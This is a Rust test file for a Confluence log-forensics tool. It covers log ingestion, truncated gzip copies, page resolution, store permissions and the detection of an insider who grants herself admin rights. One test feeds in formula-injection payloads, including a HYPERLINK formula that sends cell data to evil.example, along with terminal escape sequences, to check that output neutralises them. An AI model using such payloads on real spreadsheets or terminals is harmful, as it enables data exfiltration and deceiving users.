//! Real folders and evidence copies (issue 9): final last lines, every audit record, a Confluence
//! logs folder, truncated gzip copies, pages shown as every answer sees them, an owner-only store,
//! hostile text in CSV, and the release binary's size. Inputs follow the public shapes of
//! `shared/spec/confluence-logs.md`; `data/logs-folder/` holds a whole logs folder.

use std::io::Write;
use std::path::{Path, PathBuf};
use std::time::{Duration, SystemTime};

use pagetrail_tests::{bin, json, jsonl, ok, run};

fn logs_folder() -> PathBuf {
    pagetrail_tests::samples().join("../logs-folder")
}

/// Sets a file's modification time `age` into the past, as for a copy nobody writes any more.
fn age(path: &Path, age: Duration) {
    let f = std::fs::File::options().write(true).open(path).unwrap();
    f.set_modified(SystemTime::now() - age).unwrap();
}

/// Copies `data/logs-folder` into `dir` with every file's time an hour back: an investigator's copy.
fn copy_folder(dir: &Path) {
    fn copy(from: &Path, to: &Path) {
        std::fs::create_dir_all(to).unwrap();
        for e in std::fs::read_dir(from).unwrap() {
            let p = e.unwrap().path();
            let dest = to.join(p.file_name().unwrap());
            if p.is_dir() {
                copy(&p, &dest);
            } else {
                std::fs::copy(&p, &dest).unwrap();
                age(&dest, Duration::from_secs(3600));
            }
        }
    }
    copy(&logs_folder(), dir);
}

fn stderr(o: &std::process::Output) -> String {
    String::from_utf8_lossy(&o.stderr).into_owned()
}

/// Point 3: a Confluence logs folder ingests; the files in no known format are passed over with
/// one note each and counted. Point 1: its copies' last lines (no newline) are taken. Point 2:
/// every audit record is an event.
#[test]
fn a_confluence_logs_folder_is_ingested_whole() {
    let d = tempfile::tempdir().unwrap();
    let logs = d.path().join("logs");
    copy_folder(&logs);
    let store = d.path().join("store");
    let o = run(&store, &["--format", "json", "ingest", logs.to_str().unwrap()]);
    assert!(o.status.success(), "{}", stderr(&o));
    let s: serde_json::Value = serde_json::from_slice(&o.stdout).unwrap();
    // The access log (4 lines, the last without a newline) and the audit file (7 records, ditto).
    assert_eq!((s["files"].as_u64(), s["skipped"].as_u64()), (Some(2), Some(5)), "{s}");
    assert_eq!((s["lines"].as_u64(), s["events"].as_u64()), (Some(11), Some(11)), "{s}");
    assert_eq!((s["noise"].as_u64(), s["rejected"].as_u64()), (Some(0), Some(0)), "{s}");
    let err = stderr(&o);
    for f in [
        "atlassian-confluence.log",
        "atlassian-confluence-security.log",
        "atlassian-synchrony.log",
        "catalina.out",
        "gc-2024-02-20_09-12-00.log.0.current",
    ] {
        let notes = err.lines().filter(|l| l.contains(f) && l.contains("skipped")).count();
        assert_eq!(notes, 1, "one note for {f}: {err}");
    }
    assert!(!err.contains("no newline"), "copies are final: {err}");

    // The last access-log line (no newline): admin's read of the AWS keys page.
    let who = json(&store, &["who-read", "--page", "2129924"]);
    let readers: Vec<&str> = who["rows"].as_array().unwrap().iter().map(|r| r["user"].as_str().unwrap()).collect();
    assert!(readers.contains(&"admin") && readers.contains(&"user"), "{who}");

    // Every audit record is an event: administration as admin, the login as auth, the download.
    let admin = jsonl(&store, &["events", "--action", "admin"]);
    let actions: Vec<&str> = admin.iter().map(|e| e["extra"]["audit_action"].as_str().unwrap()).collect();
    assert_eq!(
        actions,
        [
            "audit.logging.summary.plugin.enabled",
            "audit.logging.summary.group.membership.added",
            "audit.logging.summary.space.permission.added",
            "audit.logging.summary.user.created",
            "atlassian.audit.event.action.audit.search",
        ]
    );
    let grant = &admin[2]["extra"];
    assert_eq!(
        (&grant["category"], &grant["object.group"], &grant["changed.Type"]),
        (&"Permissions".into(), &"confluence-users".into(), &"VIEWSPACE".into())
    );
    assert_eq!(admin[1]["extra"]["object.user"], "mallory");
    assert_eq!(admin[4]["extra"]["search_query"], "mallory");
    let auth = jsonl(&store, &["events", "--action", "auth"]);
    assert_eq!(auth.len(), 1);
    assert_eq!(auth[0]["extra"]["audit_action"], "audit.logging.summary.login.success");
    // The last audit record (no newline) is the download.
    let dl = jsonl(&store, &["events", "--action", "download"]);
    assert_eq!((dl.len(), &dl[0]["page_id"]), (1, &2129924.into()));

    // A re-run adds nothing; naming an unparsed file itself is still an error.
    let again = json(&store, &["ingest", logs.to_str().unwrap()]);
    assert_eq!((again["events"].as_u64(), again["duplicates"].as_u64()), (Some(0), Some(11)), "{again}");
    let o = run(&store, &["ingest", logs.join("atlassian-synchrony.log").to_str().unwrap()]);
    assert_eq!(o.status.code(), Some(1));
    assert!(stderr(&o).contains("atlassian-synchrony.log: no line matches a known log format"), "{}", stderr(&o));
    // A folder with nothing in a known format fails, saying so.
    let junk = d.path().join("junk");
    std::fs::create_dir(&junk).unwrap();
    std::fs::copy(logs.join("catalina.out"), junk.join("catalina.out")).unwrap();
    let o = run(&d.path().join("other"), &["ingest", junk.to_str().unwrap()]);
    assert_eq!(o.status.code(), Some(1));
    assert!(stderr(&o).contains("no file in a known log format"), "{}", stderr(&o));
}

/// Point 2, D11: a user who changes permissions or group membership is privileged from then on.
#[test]
fn an_audit_permission_change_makes_its_author_privileged_from_then_on() {
    let d = tempfile::tempdir().unwrap();
    let logs = d.path().join("logs");
    copy_folder(&logs);
    // mallory (the audit file's user key, mapped below) pulls 40 pages in four minutes after
    // adding herself to the administrators at 05:36:30; eve does the same but has no such record.
    let mut access = String::new();
    for (user, start_min) in [("mallory", 40), ("eve", 40)] {
        for i in 0..40 {
            let (m, s) = (start_min + i * 6 / 60, i * 6 % 60);
            access.push_str(&format!(
                "[21/Feb/2024:05:{m:02}:{s:02} +0000] {user} http-nio-8090-exec-3 10.0.0.9 GET /pages/viewpage.action?pageId={} HTTP/1.1 200 40ms 5120 - Mozilla/5.0 (X11; Linux x86_64)\n",
                9000 + i
            ));
        }
    }
    let f = logs.join("conf_access_log.2024-02-22.log");
    std::fs::write(&f, access).unwrap();
    let users = d.path().join("users.csv");
    std::fs::write(
        &users,
        "username,user_key,account_id,display_name\nmallory,2c9580827d4a06e8017d4a07c3e10000,,Mallory Example\n",
    )
    .unwrap();
    let store = d.path().join("store");
    json(&store, &["ingest", logs.to_str().unwrap()]);
    json(&store, &["users", users.to_str().unwrap()]);
    let out = json(&store, &["detect", "--detector", "privileged", "--detector", "burst"]);
    let alerts = out["alerts"].as_array().unwrap();
    let of = |u: &str, det: &str| alerts.iter().filter(|a| a["user"] == u && a["detector"] == det).count();
    assert!(of("mallory", "burst") >= 1 && of("eve", "burst") >= 1, "both bursts are seen: {out}");
    assert_eq!(of("mallory", "privileged"), 1, "{out}");
    assert_eq!(of("eve", "privileged"), 0, "{out}");
}

const LINE: &str = "[17/Jun/2021:12:57:26 +0200] user http-nio-8080-exec-1 test.example.com GET /pages/viewpage.action?pageId=2129924 HTTP/1.1 200 46ms 1206 http://localhost:8080/index.action Mozilla/5.0 (Macintosh; Intel Mac OS X 10_15_7) AppleWebKit/537.36";

/// Point 1: a live file's partial line waits; a quiet file, `--final`, gzip and stdin take it; a
/// line taken as final that later grows is never a second event.
#[test]
fn last_lines_without_a_newline() {
    let d = tempfile::tempdir().unwrap();
    let line2 = LINE.replace("12:57:26", "12:58:01").replace("2129924", "2129925");
    let body = format!("{LINE}\n{line2}");

    // Live (just written): the partial line waits, with a note.
    let live = d.path().join("live.log");
    std::fs::write(&live, &body).unwrap();
    let store = d.path().join("live-store");
    let o = run(&store, &["--format", "json", "ingest", live.to_str().unwrap()]);
    assert!(stderr(&o).contains("last line has no newline yet"), "{}", stderr(&o));
    assert_eq!(serde_json::from_slice::<serde_json::Value>(&o.stdout).unwrap()["events"], 1);
    // ... and comes in whole once the writer finishes it.
    std::fs::OpenOptions::new().append(true).open(&live).unwrap().write_all(b"\n").unwrap();
    assert_eq!(json(&store, &["ingest", live.to_str().unwrap()])["events"], 1);
    assert_eq!(jsonl(&store, &["events"]).len(), 2);

    // --final, a file untouched for a while, gzip and stdin take it at once.
    let quiet = d.path().join("quiet.log");
    std::fs::write(&quiet, &body).unwrap();
    age(&quiet, Duration::from_secs(120));
    let fresh = d.path().join("fresh.log");
    std::fs::write(&fresh, body.replace("test.example.com", "other.example.com")).unwrap();
    let gz = d.path().join("copy.log.gz");
    let mut enc = flate2::write::GzEncoder::new(Vec::new(), flate2::Compression::default());
    enc.write_all(body.replace("test.example.com", "gz.example.com").as_bytes()).unwrap();
    std::fs::write(&gz, enc.finish().unwrap()).unwrap();
    for (name, args) in [
        ("quiet", vec!["ingest", quiet.to_str().unwrap()]),
        ("final", vec!["ingest", "--final", fresh.to_str().unwrap()]),
        ("gzip", vec!["ingest", gz.to_str().unwrap()]),
    ] {
        let s = d.path().join(name);
        assert_eq!(json(&s, &args)["events"], 2, "{name}");
    }
    let s = d.path().join("stdin");
    let mut child = std::process::Command::new(bin())
        .args(["--store", s.to_str().unwrap(), "--format", "json", "ingest", "-"])
        .stdin(std::process::Stdio::piped())
        .stdout(std::process::Stdio::piped())
        .spawn()
        .unwrap();
    child.stdin.take().unwrap().write_all(body.as_bytes()).unwrap();
    let out = child.wait_with_output().unwrap();
    assert_eq!(serde_json::from_slice::<serde_json::Value>(&out.stdout).unwrap()["events"], 2);

    // Taken as final, then the file grows after all. (a) The taken part was an event (the user
    // agent is the rest of the line): it stays one event, and the rest is kept as a reject.
    let grows = d.path().join("grows.log");
    std::fs::write(&grows, &body).unwrap();
    let store = d.path().join("grows-store");
    assert_eq!(json(&store, &["ingest", "--final", grows.to_str().unwrap()])["events"], 2);
    let rest = " (KHTML, like Gecko)\n[17/Jun/2021:12:59:00 +0200] user http-nio-8080-exec-1 test.example.com GET /pages/viewpage.action?pageId=2129926 HTTP/1.1 200 46ms 1206 - curl/8.0\n";
    std::fs::OpenOptions::new().append(true).open(&grows).unwrap().write_all(rest.as_bytes()).unwrap();
    let s = json(&store, &["ingest", grows.to_str().unwrap()]);
    assert_eq!((s["events"].as_u64(), s["rejected"].as_u64()), (Some(1), Some(1)), "{s}");
    let ev = jsonl(&store, &["events"]);
    assert_eq!(ev.len(), 3, "never a second event of line 2: {ev:?}");
    assert_eq!((&ev[1]["source"]["line"], &ev[2]["source"]["line"]), (&2.into(), &3.into()));
    let rej = jsonl(&store, &["rejects"]);
    assert_eq!((rej.len(), &rej[0]["line"], &rej[0]["raw"]), (1, &2.into(), &" (KHTML, like Gecko)".into()), "{rej:?}");
    assert_eq!(json(&store, &["stats"])["events"], 3);

    // (b) The taken part was torn (a reject): the whole line is parsed again and replaces it.
    let torn = d.path().join("torn.log");
    let cut = LINE.find(" 200 ").unwrap();
    std::fs::write(&torn, format!("{line2}\n{}", &LINE[..cut])).unwrap();
    let store = d.path().join("torn-store");
    let s = json(&store, &["ingest", "--final", torn.to_str().unwrap()]);
    assert_eq!((s["events"].as_u64(), s["rejected"].as_u64()), (Some(1), Some(1)), "{s}");
    std::fs::OpenOptions::new()
        .append(true)
        .open(&torn)
        .unwrap()
        .write_all(format!("{}\n", &LINE[cut..]).as_bytes())
        .unwrap();
    let s = json(&store, &["ingest", torn.to_str().unwrap()]);
    assert_eq!((s["events"].as_u64(), s["rejected"].as_u64()), (Some(1), Some(0)), "{s}");
    assert!(jsonl(&store, &["rejects"]).is_empty(), "the torn part's reject is replaced by the whole line");
    let ev = jsonl(&store, &["events"]);
    assert_eq!((ev.len(), &ev[0]["source"]["line"], &ev[0]["page_id"]), (2, &2.into(), &2129924.into()), "{ev:?}");
    let st = json(&store, &["stats"]);
    assert_eq!((st["events"].as_u64(), st["reads"].as_u64()), (Some(2), Some(2)), "{st}");
    let t = ok(&store, &["stats"]);
    assert!(
        t.contains("rejected") && t.lines().any(|l| l.starts_with("rejected") && l.trim_end().ends_with(" 0")),
        "{t}"
    );
}

/// Point 4: a truncated gzip copy gives every line that decodes, a reject where it ends, and a
/// warning; again adds nothing; the whole copy later completes it without a stale reject.
#[test]
fn a_truncated_gzip_copy_keeps_what_decodes() {
    let d = tempfile::tempdir().unwrap();
    let mut text = String::new();
    for i in 0..2000 {
        let (m, s) = (i / 60 % 60, i % 60);
        text.push_str(&format!(
            "[18/Dec/2020:13:{m:02}:{s:02} +1100] testuser http-nio-8090-exec-6 0:0:0:0:0:0:0:1 GET /pages/viewpage.action?pageId={} HTTP/1.1 200 12ms {} http://localhost:8090/index.action Mozilla/5.0 (Macintosh; Intel Mac OS X 10_14_6) AppleWebKit/537.36\n",
            100 + i % 97,
            1000 + i
        ));
    }
    let mut enc = flate2::write::GzEncoder::new(Vec::new(), flate2::Compression::best());
    enc.write_all(text.as_bytes()).unwrap();
    let full = enc.finish().unwrap();
    let whole = d.path().join("whole").join("conf_access_log.2020-12-18.log.gz");
    std::fs::create_dir_all(whole.parent().unwrap()).unwrap();
    std::fs::write(&whole, &full).unwrap();
    let cut = d.path().join("conf_access_log.2020-12-18.log.gz");
    std::fs::write(&cut, &full[..full.len() / 2]).unwrap();

    let store = d.path().join("store");
    let o = run(&store, &["--format", "json", "ingest", cut.to_str().unwrap()]);
    assert!(o.status.success(), "{}", stderr(&o));
    assert!(stderr(&o).contains("gzip data ends early"), "{}", stderr(&o));
    let s: serde_json::Value = serde_json::from_slice(&o.stdout).unwrap();
    let events = s["events"].as_u64().unwrap();
    assert!(events > 100 && events < 2000, "{s}");
    assert_eq!(s["rejected"], 1, "{s}");
    // Every decoded line is in, exactly as in the text, and the reject sits right after them.
    let ev = jsonl(&store, &["events"]);
    for (i, e) in ev.iter().enumerate() {
        assert_eq!(e["source"]["line"], i + 1);
        assert_eq!(e["bytes"], 1000 + i);
    }
    let rej = jsonl(&store, &["rejects"]);
    assert_eq!(rej.len(), 1);
    assert_eq!(rej[0]["line"], events + 1);
    assert!(rej[0]["reason"].as_str().unwrap().starts_with("gzip data ends early"), "{rej:?}");
    let raw = rej[0]["raw"].as_str().unwrap();
    assert!(text.lines().nth(events as usize).unwrap().starts_with(raw), "the cut-off bytes are the next line's start");

    // The same cut copy again: nothing new, no second reject.
    let again = json(&store, &["ingest", cut.to_str().unwrap()]);
    assert_eq!((again["events"].as_u64(), again["rejected"].as_u64()), (Some(0), Some(0)), "{again}");
    assert_eq!(jsonl(&store, &["rejects"]).len(), 1);
    // The whole copy completes it: every line once, the cut reject gone.
    let done = json(&store, &["ingest", whole.to_str().unwrap()]);
    assert_eq!(done["rejected"], 0, "{done}");
    let ev = jsonl(&store, &["events"]);
    assert_eq!(ev.len(), 2000);
    assert!(ev.iter().enumerate().all(|(i, e)| e["source"]["line"] == i + 1 && e["bytes"] == 1000 + i));
    assert!(jsonl(&store, &["rejects"]).is_empty(), "{:?}", jsonl(&store, &["rejects"]));
    assert_eq!(json(&store, &["stats"])["events"], 2000);

    // Cut inside the gzip header: nothing decodes, and that is an error naming the file.
    let stub = d.path().join("stub.log.gz");
    std::fs::write(&stub, &full[..12]).unwrap();
    let o = run(&store, &["ingest", stub.to_str().unwrap()]);
    assert_eq!(o.status.code(), Some(1));
    assert!(
        stderr(&o).contains("stub.log.gz") && stderr(&o).contains("gzip data ends before any content"),
        "{}",
        stderr(&o)
    );
}

/// Point 5: `events` shows the page as every answer sees it, whatever its URL named.
#[test]
fn events_show_the_resolved_page() {
    let d = tempfile::tempdir().unwrap();
    let log = d.path().join("conf_access_log.2026-03-29.log");
    std::fs::write(
        &log,
        "[29/Mar/2026:10:00:00 +0000] anna http-nio-8090-exec-1 10.0.0.5 GET /display/ENG/Deploy+Runbook HTTP/1.1 200 30ms 9000 - Mozilla/5.0\n\
         [29/Mar/2026:10:01:00 +0000] bob http-nio-8090-exec-2 10.0.0.6 GET /pages/viewpage.action?spaceKey=OPS&title=On+Call HTTP/1.1 200 30ms 9000 - Mozilla/5.0\n\
         [29/Mar/2026:10:02:00 +0000] carl http-nio-8090-exec-3 10.0.0.7 GET /spaces/OPS/pages/555/On+Call HTTP/1.1 200 30ms 9000 - Mozilla/5.0\n\
         [29/Mar/2026:10:03:00 +0000] dora http-nio-8090-exec-4 10.0.0.8 GET /pages/viewpage.action?pageId=555 HTTP/1.1 200 30ms 9000 - Mozilla/5.0\n",
    )
    .unwrap();
    let catalog = d.path().join("pages.csv");
    std::fs::write(&catalog, "page_id,space_key,title\n1234567,ENG,Deploy Runbook\n").unwrap();
    let store = d.path().join("store");
    json(&store, &["ingest", log.to_str().unwrap()]);
    json(&store, &["catalog", catalog.to_str().unwrap()]);
    let shown = |user: &str| {
        let e = jsonl(&store, &["events", "--user", user]);
        assert_eq!(e.len(), 1, "{user}");
        (
            e[0]["page_id"].clone(),
            e[0]["space"].clone(),
            e[0]["title"].clone(),
            e[0]["path"].clone(),
            e[0]["query"].clone(),
        )
    };
    // Named by title: the catalog gives the id.
    assert_eq!(
        shown("anna"),
        (1234567.into(), "ENG".into(), "Deploy Runbook".into(), "/display/ENG/Deploy+Runbook".into(), "".into())
    );
    // Named by title: a log link gives the id; named by id: the link gives space and title.
    assert_eq!(
        shown("bob"),
        (
            555.into(),
            "OPS".into(),
            "On Call".into(),
            "/pages/viewpage.action".into(),
            "spaceKey=OPS&title=On+Call".into()
        )
    );
    assert_eq!(
        shown("dora"),
        (555.into(), "OPS".into(), "On Call".into(), "/pages/viewpage.action".into(), "pageId=555".into())
    );
    // `--page N` finds both spellings, and prints N for each.
    let p = jsonl(&store, &["events", "--page", "555"]);
    assert_eq!(p.len(), 3);
    assert!(p.iter().all(|e| e["page_id"] == 555), "{p:?}");
    let p = jsonl(&store, &["events", "--page", "1234567"]);
    assert_eq!((p.len(), &p[0]["page_id"]), (1, &1234567.into()));
    // CSV and the table show the same page.
    let csv = ok(&store, &["--format", "csv", "events", "--user", "anna"]);
    assert!(csv.lines().nth(1).unwrap().contains(",1234567,ENG,Deploy Runbook,"), "{csv}");
}

/// Point 6: the store is owner-only, and stays so; `stats` warns when it is not.
#[cfg(unix)]
#[test]
fn the_store_is_owner_only() {
    use std::os::unix::fs::PermissionsExt;
    let d = tempfile::tempdir().unwrap();
    let log = d.path().join("conf_access_log.2021-06-17.log");
    std::fs::write(&log, format!("{LINE}\n")).unwrap();
    let store = d.path().join("store");
    json(&store, &["ingest", log.to_str().unwrap()]);
    let mode = |p: &Path| std::fs::metadata(p).unwrap().permissions().mode() & 0o777;
    let check = |when: &str| {
        assert_eq!(mode(&store), 0o700, "{when}: folder");
        for e in std::fs::read_dir(&store).unwrap() {
            let p = e.unwrap().path();
            assert_eq!(mode(&p) & 0o077, 0, "{when}: {} is {:o}", p.display(), mode(&p));
        }
    };
    check("after ingest");
    json(&store, &["catalog", pagetrail_tests::samples().join("catalog.csv").to_str().unwrap()]);
    ok(&store, &["compact"]);
    check("after catalog and compact");
    let o = run(&store, &["stats"]);
    assert!(!stderr(&o).contains("warning"), "{}", stderr(&o));
    // Opened up by hand: stats says so.
    std::fs::set_permissions(&store, std::fs::Permissions::from_mode(0o755)).unwrap();
    for e in std::fs::read_dir(&store).unwrap() {
        std::fs::set_permissions(e.unwrap().path(), std::fs::Permissions::from_mode(0o644)).unwrap();
    }
    let o = run(&store, &["stats"]);
    assert!(o.status.success());
    let err = stderr(&o);
    assert!(
        err.contains("warning") && err.contains("can be read by other users") && err.contains("chmod -R go-rwx"),
        "{err}"
    );
}

/// Point 7: attacker text cannot be a formula in a spreadsheet, nor an escape sequence on a terminal.
#[test]
fn hostile_text_in_csv_and_on_terminals() {
    let d = tempfile::tempdir().unwrap();
    let log = d.path().join("conf_access_log.2026-03-29.log");
    // Tomcat writes ESC in a header as \u001b (§1.3); the user agent is the rest of the line.
    std::fs::write(
        &log,
        "[29/Mar/2026:10:00:00 +0000] eve http-nio-8090-exec-1 10.0.0.5 GET /display/ENG/%3DHYPERLINK(%22http://evil.example%22) HTTP/1.1 200 30ms 9000 - =HYPERLINK(\"http://evil.example/?\"&A1,\"Click\")\n\
         [29/Mar/2026:10:01:00 +0000] eve http-nio-8090-exec-1 10.0.0.5 GET /display/ENG/Notes HTTP/1.1 200 30ms 9000 - @SUM(1+1) \\u001b]0;owned\\u0007\\u001b[2J\n",
    )
    .unwrap();
    let store = d.path().join("store");
    json(&store, &["ingest", log.to_str().unwrap()]);
    let csv = ok(&store, &["--format", "csv", "events"]);
    let mut rdr = csv::Reader::from_reader(csv.as_bytes());
    let headers = rdr.headers().unwrap().clone();
    let col = |n: &str| headers.iter().position(|h| h == n).unwrap();
    let rows: Vec<csv::StringRecord> = rdr.records().map(|r| r.unwrap()).collect();
    assert_eq!(&rows[0][col("title")], "'=HYPERLINK(\"http://evil.example\")");
    assert_eq!(&rows[0][col("user_agent")], "'=HYPERLINK(\"http://evil.example/?\"&A1,\"Click\")");
    assert!(
        rows[1][col("user_agent")].starts_with("'@SUM(1+1) \u{1b}]0;owned"),
        "a pipe gets the text as logged, made inert"
    );
    // On a terminal (script gives the command one), CSV and JSON carry no raw escape character.
    assert!(Path::new("/usr/bin/script").exists(), "util-linux `script` gives the command a terminal");
    {
        for f in ["csv", "json", "table"] {
            let cmd = format!("{} --store {} --format {f} events", bin().display(), store.display());
            let o = std::process::Command::new("/usr/bin/script").args(["-qec", &cmd, "/dev/null"]).output().unwrap();
            let shown = String::from_utf8_lossy(&o.stdout);
            assert!(shown.contains("Notes"), "{f}: {shown}");
            if f != "table" {
                assert!(shown.contains("owned"), "{f}: the user agent is there: {shown}");
            }
            assert!(!shown.contains('\u{1b}') && !shown.contains('\u{7}'), "{f} reached the terminal raw: {shown:?}");
        }
    }
}

/// Point 10: the release binary is of a normal size (RocksDB's debug info made it 462 MB). It
/// was 23.6 MB before the Parquet writer (arrow-rs) and 31.8 MB with it.
#[test]
fn the_release_binary_is_small() {
    let size = std::fs::metadata(bin()).unwrap().len();
    assert!(size <= 40 << 20, "{} is {size} bytes", bin().display());
}

/// Point 9: CI's libclang check takes what bindgen loads, never libclang-cpp alone.
#[test]
fn ci_finds_the_libclang_that_bindgen_loads() {
    let script = Path::new(env!("CARGO_MANIFEST_DIR")).join("../.ci/find-libclang");
    let d = tempfile::tempdir().unwrap();
    let check = |files: &[&str]| {
        let dir = d.path().join(files.join("+").replace('/', "_"));
        std::fs::create_dir_all(&dir).unwrap();
        for f in files {
            std::fs::write(dir.join(f), b"").unwrap();
        }
        let o = std::process::Command::new("bash").arg(&script).env("PAGETRAIL_LIBCLANG_DIRS", &dir).output().unwrap();
        (o.status.success(), String::from_utf8_lossy(&o.stdout).trim().rsplit('/').next().unwrap_or("").to_owned())
    };
    // What the Debian image ships: libclang-cpp only. Not enough.
    assert_eq!(check(&["libclang-cpp.so.14"]), (false, String::new()));
    assert_eq!(check(&["libclang-cpp.so"]), (false, String::new()));
    // What libclang-dev and libclang1 install, in the names clang-sys looks for.
    for f in ["libclang.so", "libclang-14.so", "libclang.so.1", "libclang-14.so.14"] {
        assert_eq!(check(&["libclang-cpp.so.14", f]), (true, f.to_owned()), "{f}");
    }
}

/// Point 4, for a whole-file JSON export in gzip: a cut copy fails nothing and loses nothing.
#[test]
fn a_truncated_gzip_json_export_is_kept() {
    let d = tempfile::tempdir().unwrap();
    let export = std::fs::read(pagetrail_tests::samples().join("../sources/dc-audit-export.json")).unwrap();
    let mut enc = flate2::write::GzEncoder::new(Vec::new(), flate2::Compression::default());
    enc.write_all(&export).unwrap();
    let gz = enc.finish().unwrap();
    let cut = d.path().join("audit-export.json.gz");
    std::fs::write(&cut, &gz[..gz.len() * 2 / 3]).unwrap();
    let store = d.path().join("store");
    let o = run(&store, &["--format", "json", "ingest", "--source-format", "dc-audit-rest", cut.to_str().unwrap()]);
    assert!(o.status.success(), "{}", stderr(&o));
    assert!(stderr(&o).contains("gzip data ends early"), "{}", stderr(&o));
    let rej = jsonl(&store, &["rejects"]);
    assert_eq!(rej.len(), 1, "{rej:?}");
    assert!(rej[0]["reason"].as_str().unwrap().starts_with("gzip data ends early"));
    // Nothing is dropped: the decoded text is all there.
    let raw = rej[0]["raw"].as_str().unwrap();
    assert!(raw.len() > 100 && String::from_utf8_lossy(&export).starts_with(raw), "{raw}");
    let again = json(&store, &["ingest", "--source-format", "dc-audit-rest", cut.to_str().unwrap()]);
    assert_eq!((again["events"].as_u64(), again["rejected"].as_u64()), (Some(0), Some(0)), "{again}");
}
